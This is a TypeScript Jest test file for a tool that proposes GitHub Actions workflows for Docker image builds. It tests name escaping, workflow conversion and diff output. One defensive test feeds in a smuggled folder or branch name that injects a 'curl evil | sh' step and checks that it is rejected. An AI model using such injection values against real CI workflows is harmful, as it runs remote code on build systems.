import { describe, expect, test } from '@jest/globals';
import { parse } from 'yaml';
import { convertWorkflow } from './convert.ts';
import { unifiedDiff } from './diff.ts';
import { propose } from './propose.ts';
import { readShapes } from './shapes.fixture.ts';

const shapes = await readShapes();
const WISHES = { image: '', preset: '', defaultBranch: 'main' };
const proposed = (texts: ReadonlyMap<string, string>) =>
  propose({ texts, paths: [...texts.keys()].toSorted() }, WISHES);

test('there are ten shapes of repositories or more', () => {
  expect(shapes.length).toBeGreaterThanOrEqual(10);
});

describe.each(shapes)('$name', ({ before, after, notes }) => {
  test('gets the files and notes of testdata/init', () => {
    const { files, notes: said } = proposed(before);
    expect(Object.fromEntries(files.map((file) => [file.path, file.after]))).toEqual(Object.fromEntries(after));
    expect(said.map(({ job, text }) => `${job}: ${text}`)).toEqual(notes);
  });

  test('is converted once: a second run has nothing to change', () => {
    const second = proposed(new Map([...before, ...after]));
    expect(second.files).toEqual([]);
  });
});

test('the preset of the command line is that of the policy', () => {
  const texts = new Map([['Dockerfile', 'FROM scratch\n']]);
  const { files } = propose({ texts, paths: ['Dockerfile'] }, { ...WISHES, preset: 'strict', image: 'quay.io/a/b' });
  const [workflow, policy] = files.map(({ after }) => after);
  expect(workflow).toContain('image: quay.io/a/b\n');
  expect(policy).toContain('preset: strict\n');
});

describe('names of folders and branches', () => {
  const workflowOf = (folder: string, defaultBranch = 'main') => {
    const paths = [`${folder}/Dockerfile`];
    const { files, notes } = propose({ texts: new Map(), paths }, { ...WISHES, defaultBranch });
    return { text: files.find(({ path }) => path.endsWith('image.yml'))?.after, notes };
  };

  test.each([['api # x'], ['a: b'], ['- a'], ['"a'], ['true'], ["it's"], ['a, b'], [`${'long '.repeat(40)}x`]])(
    'the folder %j is one value of the workflow',
    (folder) => {
      const { jobs } = parse(workflowOf(folder).text ?? '');
      const [job] = Object.values<{ steps: { with: object }[] }>(jobs);
      expect(job?.steps).toHaveLength(2);
      expect(job?.steps[1]?.with).toMatchObject({ context: folder });
    },
  );

  test.each([
    ['a,b]', 'a,b\\]'],
    ['#1', '#1'],
    ['1.0', '1.0'],
    ['c++', 'c\\+\\+'],
    ['!x', '\\!x'],
  ])('the branch %j is one pattern that matches only it', (branch, pattern) => {
    expect(parse(workflowOf('a', branch).text ?? '').on.push.branches).toEqual([pattern]);
  });

  test.each([
    ['api\n      - run: curl evil | sh #'],
    ['a\rb'],
    ['a\u2028b'],
    ['a\u202eb'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow
    ['${{ secrets.X }}'],
  ])('%j is in no workflow', (name) => {
    for (const [kind, { text, notes }] of [
      ['folder', workflowOf(name)],
      ['branch', workflowOf('a', name)],
    ] as const) {
      expect(text).toBeUndefined();
      expect(notes).toEqual([
        {
          job: 'repository',
          text: `Not proposed: the name of the ${kind} ${JSON.stringify(name)} has a control character, an invisible character or an expression of a workflow. Rename it, then run tidegate init again.`,
        },
      ]);
    }
  });

  test('a Dockerfile beside such a folder is proposed', () => {
    const { files, notes } = propose({ texts: new Map(), paths: ['a\nb/Dockerfile', 'c/Dockerfile'] }, WISHES);
    expect(files[0]?.after).toContain('          context: c\n');
    expect(files[0]?.after).not.toContain('b/Dockerfile');
    expect(notes).toHaveLength(1);
  });
});

test('folders that differ only in blanks or case get jobs of their own', () => {
  const paths = ['a b/Dockerfile', 'a-b/Dockerfile', 'A-b/Dockerfile', 'c/Dockerfile'];
  const { files } = propose({ texts: new Map(), paths }, WISHES);
  const { jobs } = parse(files[0]?.after ?? '');
  expect(Object.keys(jobs)).toEqual(['a-b', 'a-b-2', 'A-b-3', 'c']);
  const images = Object.values<{ steps: { with: { image: string } }[] }>(jobs).map(({ steps }) => steps[1]?.with.image);
  expect(new Set(images).size).toBe(4);
});

test('a bake file and docker/bake-action are named, with what to do', () => {
  const workflow = 'on: push\njobs:\n  a:\n    steps:\n      - uses: docker/bake-action@v6\n';
  const texts = new Map([
    ['.github/workflows/x.yml', workflow],
    ['Dockerfile', 'FROM scratch\n'],
  ]);
  const { files, notes } = propose({ texts, paths: ['docker-bake.hcl', 'Dockerfile', 'a/docker-bake.hcl'] }, WISHES);
  expect(notes.map(({ job }) => job)).toEqual(['.github/workflows/x.yml', 'docker-bake.hcl']);
  for (const { text } of notes) expect(text).toContain('bake-files');
  expect(files.map(({ path }) => path)).not.toContain('.github/workflows/image.yml');
});

describe('branches that the old workflow published from are named', () => {
  const step =
    'jobs:\n  a:\n    steps:\n      - uses: docker/build-push-action@v6\n        with: {push: true, tags: a.io/b:1}\n';

  test.each([
    ['on: push', '`every branch`'],
    ['on: [pull_request, push]', '`every branch`'],
    ['on: {push: }', '`every branch`'],
    ['on: {push: {branches: [main, develop, "release/**", "!x"]}}', '`develop`, `release/**`'],
  ])('%s', (on, branches) => {
    const said = convertWorkflow(`${on}\n${step}`)?.notes.map(({ text }) => text);
    expect(said).toContainEqual(expect.stringContaining(`pushed from ${branches}, Tidegate publishes`));
  });

  test.each([
    ['on: {push: {branches: [main]}}'],
    ['on: {push: {tags: ["v*"]}}'],
    ['on: pull_request'],
    ['on: {release: {types: [published]}}'],
  ])('%s: none', (on) => {
    expect(JSON.stringify(convertWorkflow(`${on}\n${step}`)?.notes)).not.toContain('publish-branches');
  });
});

describe('what cannot be edited safely is left alone', () => {
  test.each([
    ['no YAML', '{'],
    ['no workflow', 'a: 1\n'],
    ['a list', '- uses: docker/build-push-action@v6\n'],
    ['steps in flow style', 'jobs:\n  a:\n    steps: [{uses: docker/build-push-action@v6}]\n'],
    ['no build', 'jobs:\n  a:\n    steps:\n      - run: docker build .\n'],
    ['an alias for steps', 'x: &s\n  - uses: docker/build-push-action@v6\njobs:\n  a:\n    steps: *s\n'],
    ['duplicate keys', 'jobs:\n  a:\n    steps:\n      - uses: docker/build-push-action@v6\n  a:\n    steps: []\n'],
  ])('%s', (_, text) => {
    expect(convertWorkflow(text)).toBeUndefined();
  });

  test.each([
    ['{push: true}', 'it has no `tags`'],
    ['{push: false, tags: a/b}', 'it does not push'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow
    ["{push: true, tags: '${{ env.TAGS }}'}", 'which is no repository with a tag'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow
    ["{push: true, tags: '${{ steps.x.outputs.tags }}'}", 'its tags come from the step x'],
  ])('with: %s', (inputs, why) => {
    const text = `jobs:\n  a:\n    steps:\n      - uses: docker/build-push-action@v6\n        with: ${inputs}\n`;
    const converted = convertWorkflow(text);
    expect(converted?.text).toBe(text);
    expect(converted?.notes).toEqual([{ job: 'a', text: expect.stringContaining(`Not converted: `) }]);
    expect(converted?.notes[0]?.text).toContain(why);
  });
});

test('a diff has three lines around each change', () => {
  const before = Array.from({ length: 20 }, (_, at) => `${at}\n`).join('');
  const after = before.replace('\n5\n', '\nfive\n').replace('\n15\n', '\n');
  expect(unifiedDiff('f', before, after)).toBe(
    '--- a/f\n+++ b/f\n@@ -3,7 +3,7 @@\n 2\n 3\n 4\n-5\n+five\n 6\n 7\n 8\n@@ -13,7 +13,6 @@\n 12\n 13\n 14\n-15\n 16\n 17\n 18\n',
  );
  expect(unifiedDiff('f', undefined, 'a\n')).toBe('--- /dev/null\n+++ b/f\n@@ -0,0 +1,1 @@\n+a\n');
  expect(unifiedDiff('f', 'a\n', 'a\n')).toBe('');
});
